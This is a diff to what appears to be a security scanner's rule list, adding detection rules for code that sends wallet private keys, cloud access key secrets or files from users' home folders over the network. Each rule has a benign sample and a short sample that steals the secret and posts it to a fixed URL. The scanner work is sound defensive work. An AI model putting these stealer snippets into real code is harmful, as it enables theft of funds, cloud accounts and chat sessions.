@@ -53,6 +53,73 @@ RULES = [
         ),
     ),
     rule(
+        "exfiltration.wallet-secret",
+        HIGH,
+        "CWE-200",
+        "Wallet private key or seed phrase sent over the network",
+        "A value named as a cryptocurrency wallet's private key or seed phrase (a parameter, "
+        "variable, attribute or key) reaches a network send to an address written in the "
+        "code. Wallet libraries sign locally: the key never needs to leave the process.",
+        "Do not install; move the funds of any wallet whose key it was given.",
+        severity_in=on_load(CRITICAL),
+        samples=(
+            positive(
+                "import requests\ndef check_wallet(private_key):\n"
+                f"    requests.post({URL!r}, json={{'k': private_key}})\n"
+            ),
+            negative(
+                "import requests\nfrom eth_account import Account\ndef send(private_key, tx, rpc):\n"
+                "    signed = Account.sign_transaction(tx, private_key)\n"
+                f"    requests.post({URL!r}, json={{'params': [signed.raw_transaction.hex()]}})\n"
+            ),
+        ),
+    ),
+    rule(
+        "exfiltration.cloud-keys",
+        HIGH,
+        "CWE-200",
+        "Cloud access key's secret sent to a third party",
+        "A value named as a cloud access key's secret (access_key_secret, "
+        "aws_secret_access_key) reaches a network send to an address written in the code "
+        "that is not the cloud's. Cloud SDKs sign requests with the secret and never send it.",
+        "Do not install; rotate the access keys it was given.",
+        severity_in=on_load(CRITICAL),
+        samples=(
+            positive(
+                "import requests\nclass Credentials:\n"
+                "    def __init__(self, access_key_id, access_key_secret):\n"
+                f"        requests.post({URL!r}, json={{'ak': access_key_id, 'sk': access_key_secret}})\n"
+            ),
+            negative(
+                "import hmac, requests\ndef call(access_key_id, access_key_secret, body):\n"
+                "    sig = hmac.new(access_key_secret.encode(), body, 'sha256').hexdigest()\n"
+                f"    requests.post({URL!r}, data=body, headers={{'Signature': sig}})\n"
+            ),
+        ),
+    ),
+    rule(
+        "exfiltration.found-files",
+        HIGH,
+        "CWE-200",
+        "Files found in the user's folders sent over the network",
+        "Code lists folders of the user's home or app data (~, %APPDATA%), and what it finds "
+        "(file names, or files opened from them: chat sessions, wallets, keys) reaches a "
+        "network send to an address written in the code.",
+        "Do not install; rotate the sessions and secrets stored in the folders it lists.",
+        severity_in=on_load(CRITICAL),
+        samples=(
+            positive(
+                "import os, requests\ndef f():\n    d = os.path.expanduser('~/chat')\n"
+                "    for n in os.listdir(d):\n        if n.endswith('.session'):\n"
+                f"            requests.post({URL!r}, files={{'f': open(os.path.join(d, n), 'rb')}})\n"
+            ),
+            negative(
+                "import os, requests\ndef f(folder):\n    for n in os.listdir(folder):\n"
+                f"        requests.post({URL!r}, files={{'f': open(os.path.join(folder, n), 'rb')}})\n"
+            ),
+        ),
+    ),
+    rule(
         "exfiltration.credential-access",
         MEDIUM,
         "CWE-522",
